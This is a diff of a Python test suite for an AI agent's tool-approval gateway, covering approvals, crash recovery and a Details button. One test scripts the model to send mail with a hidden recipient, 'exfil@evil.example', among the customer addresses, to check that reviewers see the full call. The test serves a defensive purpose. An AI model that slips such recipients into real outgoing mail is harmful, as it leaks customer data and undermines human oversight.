@@ -13,13 +13,14 @@ import pytest
 
 from bot import Agent, Runner, tool
 from bot.config import Settings
-from bot.core.approvals import DECLINED_RESULT, EXPIRED_RESULT, UNKNOWN_RESULT
+from bot.core.approvals import DECLINED_RESULT, DETAILS, EXPIRED_RESULT, UNKNOWN_RESULT
 from bot.core.messages import Role
 from bot.core.models.scripted import RecordedCall, ScriptedModel
 from bot.core.stores.sqlite import SQLiteSessionStore
-from bot.errors import StorageError
+from bot.errors import ModelError, StorageError
 from bot.gateway import turns
 from bot.gateway.approvals import (
+    DETAILS_SENT,
     NOT_YOURS,
     OPERATOR_OWNER,
     TABLE,
@@ -46,6 +47,18 @@ def refund(order_id: str, amount: float) -> str:
     """
     refunds.append((order_id, amount))
     return f"refunded {amount} on {order_id}"
+
+
+@tool(needs_approval=True)
+def send_mail(to: str, body: str) -> str:
+    """Send an e-mail for the customer.
+
+    Args:
+        to: The recipients.
+        body: The text.
+    """
+    refunds.append((to, 0.0))
+    return "sent"
 
 
 @dataclass
@@ -83,7 +96,9 @@ async def rig(tmp_path: Path) -> AsyncIterator[Rig]:
     clock = FakeClock()
     store = SQLiteSessionStore(str(tmp_path / "chatflow.db"), clock=clock)
     model = ScriptedModel()
-    runner = Runner(Agent(name="Billing", instructions="Bill.", tools=[refund]), store, model=model)
+    runner = Runner(
+        Agent(name="Billing", instructions="Bill.", tools=[refund, send_mail]), store, model=model
+    )
     adapter = ButtonAdapter()
     settings = Settings(data_dir=tmp_path, approval_ttl_seconds=600)
     gateway = Gateway(runner, store, [adapter], settings, secret=SECRET)
@@ -97,7 +112,7 @@ async def rig(tmp_path: Path) -> AsyncIterator[Rig]:
 async def test_the_question_goes_out_with_approve_and_deny_and_nothing_runs(rig: Rig) -> None:
     buttons = await rig.ask()
     assert list(buttons) == ["Approve", "Deny"]
-    assert rig.adapter.sent[-1].text == "Billing wants to run refund with order_id=1001, amount=25"
+    assert rig.adapter.sent[-1].text == "May I refund an order?\nOrder id: 1001\nAmount: 25"
     assert refunds == []
     [row] = await approval_rows(rig.store)
     assert (row.tool_name, row.agent, row.arguments) == (
@@ -273,3 +288,68 @@ async def test_found_running_after_a_crash_the_tool_is_not_run_again(rig: Rig) -
     assert refunds == []
     assert rig.tool_results(rig.model.requests[-1]) == [UNKNOWN_RESULT]
     assert await rig.state() == "done"
+
+
+async def test_a_failed_answer_after_the_approved_tool_keeps_that_it_ran(rig: Rig) -> None:
+    """G6: the model fails after the tool: the apology goes out, but the history and the
+    row keep the call and its result, and the retry runs nothing without a new approval."""
+    buttons = await rig.ask()
+    rig.model.add(ModelError("upstream 500"))
+    assert not await rig.tap(buttons["Approve"])
+    [apology] = (await rig.adapter.wait_for_sent(2))[1:]
+    assert apology.text == rig.gateway.replies.apology
+    assert refunds == [("1001", 25.0)]
+    [row] = await approval_rows(rig.store, states=("done",))
+    assert row.result == "refunded 25.0 on 1001"
+    # The person tries again: the model reads that the refund ran, and nothing runs twice.
+    rig.model.add(ScriptedModel.reply("Your refund of 25 went through."))
+    assert await rig.adapter.deliver(make_event("did it work?"))
+    await rig.adapter.wait_for_sent(3)
+    assert rig.tool_results(rig.model.requests[-1]) == ["refunded 25.0 on 1001"]
+    assert refunds == [("1001", 25.0)] and await rig.state() == "done"
+
+
+async def test_a_continuation_stopped_after_the_tool_ran_asks_the_model_again(rig: Rig) -> None:
+    """A process died after the approved call's commit (its row says done, with the
+    result): the recovered continuation does not run the tool again; the model answers
+    from the kept result, which joins a history that lacks it."""
+    await rig.ask()
+    [row] = await approval_rows(rig.store)
+    dead_inbox = Inbox(rig.store, owner="a-process-that-died")
+    await decide(
+        rig.store, dead_inbox, row.approval_id, "approve", by="user", now=rig.clock.now.timestamp()
+    )
+    async with rig.store.transaction() as tx:
+        await tx.execute(
+            f"UPDATE {TABLE} SET state = 'done', result_text = ? WHERE id = ?",
+            ("refunded 25.0 on 1001", row.approval_id),
+        )
+    rig.model.add(ScriptedModel.reply("Refunded 25."))
+    gateway = rig.gateway
+    [entry] = await gateway.inbox.recover(3600, live_owners={gateway.inbox.owner})
+    await gateway.turns.process(entry)
+    sent = await rig.adapter.wait_for_sent(2)
+    assert sent[-1].text == "Refunded 25." and refunds == []
+    assert rig.tool_results(rig.model.requests[-1]) == ["refunded 25.0 on 1001"]
+
+
+async def test_details_sends_the_whole_call_to_the_person_deciding(rig: Rig) -> None:
+    """G5: the question cuts a long argument; Details sends it whole (once), the keyboard
+    stays, and Approve then runs exactly what was shown."""
+    to = "anna@example-customer.com,billing@example-customer.com,exfil@evil.example"
+    body = "Hello Anna, here is your invoice. " + "x" * 300
+    rig.model.add(ScriptedModel.call("send_mail", to=to, body=body))
+    assert await rig.adapter.deliver(make_event("mail me the invoice"))
+    [question] = await rig.adapter.wait_for_sent(1)
+    buttons = {b.label: b.token for b in rig.adapter.keyboards[-1]}
+    assert list(buttons) == ["Approve", "Deny", DETAILS] and body not in question.text
+    assert not await rig.tap(buttons[DETAILS], sender_id="user-2")  # not theirs
+    assert not await rig.tap(buttons[DETAILS])
+    sent = await rig.adapter.wait_for_sent(2)
+    assert to in sent[-1].text and body in sent[-1].text
+    assert [notice for _, notice in rig.adapter.answers] == [NOT_YOURS, DETAILS_SENT]
+    assert not await rig.tap(buttons[DETAILS])  # a second look: no second message
+    rig.model.add(ScriptedModel.reply("Sent."))
+    assert not await rig.tap(buttons["Approve"])
+    await rig.adapter.wait_for_sent(3)
+    assert refunds == [(to, 0.0)] and len(rig.adapter.sent) == 3
